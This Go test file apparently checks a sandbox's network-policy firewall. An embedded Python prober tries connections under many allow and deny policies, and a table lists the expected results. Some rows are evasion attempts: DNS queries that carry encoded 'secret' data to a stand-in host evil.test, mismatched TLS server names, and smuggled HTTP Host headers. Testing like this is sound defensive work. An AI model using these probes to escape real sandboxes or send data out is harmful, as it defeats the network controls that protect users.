package sandboxtest_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/go-vercel/sandbox/internal/test/needs"
	"github.com/go-vercel/sandbox/internal/test/testkit"
	"github.com/go-vercel/sandbox/sandboxtest"
)

// outside has servers outside the sandboxes that record their visitors.
type outside struct {
	plain, secure *httptest.Server
	banner, udp   int // ports of a server that speaks first, and of an echo

	mu       sync.Mutex
	visitors []string // the path, "tcp" or "udp" of each visit
}

func (o *outside) recordVisit(what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.visitors = append(o.visitors, what)
}

// visits counts the visits of a path or protocol.
func (o *outside) visits(what string) (n int) {
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, c := range o.visitors {
		if c == what {
			n++
		}
	}
	return n
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := new(outside)
	serve := func(name string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			o.recordVisit(r.URL.Path)
			fmt.Fprintf(w, "%s %s", name, r.Host)
		})
	}
	o.plain, o.secure = httptest.NewServer(serve("plain")), httptest.NewTLSServer(serve("secure"))
	t.Cleanup(o.plain.Close)
	t.Cleanup(o.secure.Close)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	u, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	o.banner, o.udp = l.Addr().(*net.TCPAddr).Port, u.LocalAddr().(*net.UDPAddr).Port
	var serving sync.WaitGroup
	serving.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			o.recordVisit("tcp")
			_, _ = io.WriteString(c, "banner")
			_ = c.Close()
		}
	})
	serving.Go(func() {
		buf := make([]byte, 2000)
		for {
			n, from, err := u.ReadFrom(buf)
			if err != nil {
				return
			}
			o.recordVisit("udp")
			_, _ = u.WriteTo(buf[:n], from)
		}
	})
	t.Cleanup(func() { _, _ = l.Close(), u.Close(); serving.Wait() })
	return o
}

// prober tries the connections in its argument, and prints the result of each. It waits a
// given number of seconds for each.
const prober = `
import json, socket, ssl, struct, sys
def dns(name, kind=1, server="10.0.2.3", port=53, tcp=False, count=1):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0" + struct.pack(">HH", kind, 1)
    m = struct.pack(">HHHHHH", 7, 0x100, count, 0, 0, 0) + q * count
    if tcp:
        s = socket.create_connection((server, port), max(patience, 1)); s.sendall(struct.pack(">H", len(m)) + m); a = s.recv(2000)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(patience); s.sendto(m, (server, port)); a = s.recv(2000)
    return "code %d, %d records" % (a[3] & 15, struct.unpack(">H", a[6:8])[0]) if len(a) > 11 else "nothing"
def get(s, host, path):
    s.settimeout(max(patience, 5))
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
    data = b""
    while True:
        part = s.recv(4096)
        if not part: break
        data += part
    if not data: raise OSError("nothing came")
    return data.split(b"\r\n")[0].split()[1].decode() + " " + data.split(b"\r\n\r\n", 1)[1].decode().strip()
def tls(at, port, sni, host, path):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) # without the certificates, which take long to read
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    return get(c.wrap_socket(socket.create_connection((at, port), max(patience, 5)), server_hostname=sni or None), host, path)
def http(at, port, host, path): return get(socket.create_connection((at, port), max(patience, 5)), host, path)
def tcp(at, port): return socket.create_connection((at, port), max(patience, 1)).recv(100).decode() or "nothing"
def udp(at, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(patience); s.sendto(b"x", (at, port)); return s.recv(10).decode()
def resolve(name): return "resolves" if socket.gethostbyname(name) else "nothing"
out = []
for patience, name, *args in json.loads(sys.argv[1]):
    try: out.append(globals()[name](*args))
    except Exception as e: out.append("blocked " + type(e).__name__)
print(json.dumps(out))
`

// attempt is a row of the table: what is attempted, and its result. A want that
// ends in a star is a prefix.
type attempt struct {
	try  []any
	want string
}

const (
	blocked  = "blocked *"
	unknown  = "blocked gaierror"
	resolves = "resolves"
)

// TestPolicyTable tries connections under policies, one after the other in a running
// session. A blocked one must not reach any server.
func TestPolicyTable(t *testing.T) {
	t.Parallel()
	needs.Programs(t, "python3")
	o := newOutside(t)
	servers := make(map[string]string)
	for _, name := range []string{"api.example.com", "www.example.com", "a.b.example.com", "example.com", "notexample.com", "api.example.com.evil.test",
		"evil.test", "www.shop.com", "www.a.b.com", "www.com", "deep.www.shop.com", "apix.example.com", "xapi.example.com"} {
		servers[name] = o.plain.URL
	}
	servers["raw.example.com"] = o.secure.Listener.Addr().String()
	srv, c := start(t, &sandboxtest.Options{Names: servers})
	testkit.Policies(t, srv)
	sess := c.create(nil).Session.ID
	const host, api, evil = "10.0.2.2", "api.example.com", "evil.test"
	plainPort, securePort := port(t, o.plain.URL), port(t, o.secure.URL)
	row := func(want string, try ...any) attempt { return attempt{try, want} }
	byAddress := func(want string) []attempt { // one attempt for each way to an outside address
		return []attempt{
			row(want, "tls", host, securePort, evil, evil, "/"), row(want, "tls", host, securePort, "", host, "/"), row(want, "http", host, plainPort, host, "/"),
			row(want, "tcp", host, o.banner), row(want, "udp", host, o.udp), row(want, "tcp", "host.internal", o.banner),
		}
	}
	total := 0
	tables := []struct {
		policy any
		rows   []attempt
		slow   bool
	}{
		{obj{"mode": "allow-all"}, []attempt{
			row(resolves, "resolve", api), row("200 plain "+api, "tls", api, 443, api, api, "/"), row("200 plain "+api, "http", api, 80, api, "/"),
			row("200 secure raw.example.com", "tls", "raw.example.com", 443, "raw.example.com", "raw.example.com", "/"),
			row("banner", "tcp", host, o.banner), row("x", "udp", host, o.udp), row("200 secure x", "tls", host, securePort, evil, "x", "/"),
			row("200 plain x", "http", host, plainPort, "x", "/"), row("banner", "tcp", "host.internal", o.banner),
		}, false},
		{obj{"mode": "deny-all"}, append(byAddress(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), false},
		{obj{}, append(byAddress(blocked), row(unknown, "resolve", api), row("code 3, 0 records", "dns", api)), true},
		{obj{"allow": obj{}}, append(byAddress(blocked), row(unknown, "resolve", api)), true},
		{obj{"subnets": obj{"deny": []string{"192.0.2.0/24"}}}, append(byAddress(blocked), row(unknown, "resolve", api)), true},
		{obj{"allow": []string{api, "raw.example.com"}}, append(byAddress(blocked),
			// Names that resolve, and those that don't.
			row(resolves, "resolve", api), row(resolves, "resolve", "API.Example.COM"), row(resolves, "resolve", "api.example.com."),
			row(unknown, "resolve", "www.example.com"), row(unknown, "resolve", "example.com"), row(unknown, "resolve", "xapi.example.com"),
			row(unknown, "resolve", "api.example.com.evil.test"), row(unknown, "resolve", evil), row(resolves, "resolve", "host.internal"),
			// Queries whose names carry data to the outside.
			row("code 3, 0 records", "dns", "c2VjcmV0.evil.test", 16), row("code 3, 0 records", "dns", "c2VjcmV0.api.example.com", 1),
			row("code 0, 1 records", "dns", api, 1), row("code 0, 0 records", "dns", api, 28), row("code 2, 0 records", "dns", api, 1, "10.0.2.3", 53, false, 2),
			row(blocked, "dns", evil, 1, host, o.udp), row(blocked, "dns", evil, 1, "10.0.2.3", 53, true), row(blocked, "dns", evil, 1, "192.0.2.53"),
			// The server name of TLS, whatever the address.
			row("200 plain "+api, "tls", api, 443, api, api, "/"), row("200 plain "+api, "tls", api, 443, "API.example.com", api, "/"),
			row("200 plain api.example.com:8443", "tls", api, 8443, api, "api.example.com:8443", "/"),
			row(blocked, "tls", api, 443, evil, evil, "/"), row(blocked, "tls", api, 443, evil, api, "/"), row(blocked, "tls", api, 443, "", api, "/"),
			row(blocked, "tls", api, 443, "www.example.com", api, "/"), row(blocked, "tls", api, 443, "api.example.com.evil.test", api, "/"),
			row("200 plain "+api, "tls", host, securePort, api, api, "/"), // to the server of that name, not to the address
			// The host of the HTTP request must be the TLS server name.
			row("421 *", "tls", api, 443, api, evil, "/"), row("421 *", "tls", api, 443, api, "www.example.com", "/"),
			// Traffic without a server name.
			row(blocked, "http", api, 80, api, "/"), row(blocked, "http", api, 8080, api, "/"), row(blocked, "http", api, 443, api, "/"),
			row(blocked, "tcp", "192.0.2.1", 22), row(blocked, "udp", api, 443), row(blocked, "tcp", "2001:db8::1", 443), row(blocked, "tcp", "::ffff:10.0.2.2", o.banner),
			row("200 secure raw.example.com", "tls", "raw.example.com", 443, "raw.example.com", "raw.example.com", "/"),
		), false},
		{obj{"allow": []string{"*.example.com"}}, append(byAddress(blocked),
			row(resolves, "resolve", api), row(resolves, "resolve", "a.b.example.com"), row(unknown, "resolve", "example.com"),
			row(unknown, "resolve", "notexample.com"), row(unknown, "resolve", "api.example.com.evil.test"),
			row("200 plain a.b.example.com", "tls", api, 443, "a.b.example.com", "a.b.example.com", "/"),
			row(blocked, "tls", api, 443, "example.com", "example.com", "/"), row(blocked, "tls", api, 443, "notexample.com", "x", "/"),
		), false},
		{obj{"allow": []string{"www.*.com"}}, []attempt{
			row(resolves, "resolve", "www.shop.com"), row(unknown, "resolve", "www.a.b.com"), row(unknown, "resolve", "www.com"),
			row(unknown, "resolve", "deep.www.shop.com"), row("200 plain www.shop.com", "tls", "www.shop.com", 443, "www.shop.com", "www.shop.com", "/"),
			row(blocked, "tls", "www.shop.com", 443, "www.com", "www.com", "/"),
		}, true},
		{obj{"allow": []string{"*"}}, []attempt{
			row(resolves, "resolve", evil), row("200 plain "+evil, "tls", evil, 443, evil, evil, "/"), row(blocked, "http", evil, 80, evil, "/"),
			row(blocked, "tcp", host, o.banner), row(blocked, "udp", host, o.udp), row(blocked, "tls", host, securePort, "", "x", "/"),
		}, true},
		{obj{"subnets": obj{"allow": []string{"10.0.2.2/32"}}}, []attempt{
			row("banner", "tcp", host, o.banner), row("200 plain x", "http", host, plainPort, "x", "/"), row("x", "udp", host, o.udp),
			row("200 secure x", "tls", host, securePort, "", "x", "/"), row(unknown, "resolve", api), row(blocked, "tcp", "10.0.2.4", o.banner),
		}, false},
		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}}}, []attempt{ // this range contains the resolver's address
			row("banner", "tcp", host, o.banner), row(blocked, "dns", evil, 1, "10.0.2.3", 53, true), row("code 3, 0 records", "dns", evil),
		}, true},
		{obj{"subnets": obj{"allow": []string{"10.0.0.0/8"}, "deny": []string{"10.0.2.2/32"}}}, append(byAddress(blocked), row(unknown, "resolve", api)), false},
		{obj{"allow": []string{api}, "subnets": obj{"deny": []string{"0.0.0.0/0"}}}, []attempt{
			row(resolves, "resolve", api), row(blocked, "tls", api, 443, api, api, "/"), row(blocked, "tls", host, securePort, api, api, "/"),
		}, true},
		{obj{"allow": []string{"host.internal"}}, []attempt{
			row("200 secure x", "tls", host, securePort, "host.internal", "x", "/"), row(blocked, "http", host, plainPort, "host.internal", "/"), row(blocked, "tcp", host, o.banner),
		}, true},
		{obj{"allow": []string{"host.internal"}, "subnets": obj{"deny": []string{"10.0.2.2/32"}}}, []attempt{
			row(blocked, "tls", host, securePort, "host.internal", "x", "/"), row(blocked, "tls", "192.0.2.9", securePort, "host.internal", "x", "/"),
		}, true},
		{obj{"mode": "custom", "allowedDomains": []string{api}}, []attempt{
			row("200 plain "+api, "tls", api, 443, api, api, "/"), row(blocked, "tls", api, 443, evil, evil, "/"),
		}, true},
		{obj{"mode": "allow-all"}, []attempt{row("200 plain "+evil, "tls", evil, 443, evil, evil, "/"), row("banner", "tcp", host, o.banner)}, true},
	}
	for _, x := range tables {
		if x.slow && !needs.Slow() {
			continue
		}
		policy, err := json.Marshal(x.policy)
		require.NoError(t, err)
		c.call("POST", session(sess)+"/network-policy", string(policy), 200, nil)
		tries := make([][]any, len(x.rows))
		for i, r := range x.rows {
			patience := 60.0 // a busy machine is slow to answer
			if r.want == blocked {
				patience = 0.5
			}
			tries[i] = append([]any{patience}, r.try...)
			if last := len(tries[i]) - 1; tries[i][last] == "/" {
				tries[i][last] = fmt.Sprintf("/%d", total+i)
			}
		}
		arg, err := json.Marshal(tries)
		require.NoError(t, err)
		tcp, udp := o.visits("tcp"), o.visits("udp")
		res := c.run(sess, obj{"command": "python3", "args": []string{"-c", prober, string(arg)}})
		var got []string
		require.NoError(t, json.Unmarshal([]byte(res.stdout), &got), "%s", res.stderr)
		require.Len(t, got, len(x.rows))
		wantTCP, wantUDP := 0, 0
		for i, r := range x.rows {
			begin, open := strings.CutSuffix(r.want, "*")
			assert.True(t, got[i] == r.want || open && strings.HasPrefix(got[i], begin), "%s: %v: got %q, want %q", policy, r.try, got[i], r.want)
			if path := fmt.Sprintf("/%d", total+i); !strings.HasPrefix(r.want, "200") {
				assert.Zero(t, o.visits(path), "%s: %v has reached a server", policy, r.try)
			}
			switch r.want {
			case "banner":
				wantTCP++
			case "x":
				wantUDP++
			}
		}
		assert.Equal(t, wantTCP, o.visits("tcp")-tcp, "%s: TCP leaks", policy)
		assert.Equal(t, wantUDP, o.visits("udp")-udp, "%s: UDP leaks", policy)
		total += len(x.rows)
	}
	t.Logf("%d rows", total)
}

// TestPoliciesOfOrdinaryUsers runs the firewall's tests again as an ordinary user. The
// firewall is then in another user namespace than the sandboxes.
func TestPoliciesOfOrdinaryUsers(t *testing.T) {
	t.Parallel()
	needs.Programs(t, "python3", "curl")
	if !testkit.HaveTUN() {
		needs.Missing(t, "%s", testkit.TUN)
	}
	tests := []string{"TestDenyAllCutsTheNetwork", "TestSecretsOfPoliciesAreKept"}
	if needs.Slow() {
		tests = append(tests, "TestPolicyTable", "TestFirewallRules", "TestCredentialsAreBrokered", "TestNetworkPolicies", "TestNPMCredentials", "TestFirewallClients")
	}
	cmd, env := testkit.AsNobody(t, "^("+strings.Join(tests, "|")+")$")
	cmd.Args = append(cmd.Args, "-test.v")
	cmd.Env = append(os.Environ(), env)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
	for _, name := range tests {
		assert.Contains(t, string(out), "--- PASS: "+name+" ", "%s", out)
	}
}

// port returns the port of a URL.
func port(t *testing.T, url string) int {
	t.Helper()
	_, text, err := net.SplitHostPort(strings.TrimPrefix(strings.TrimPrefix(url, "https://"), "http://"))
	require.NoError(t, err)
	n, err := net.LookupPort("tcp", text)
	require.NoError(t, err)
	return n
}
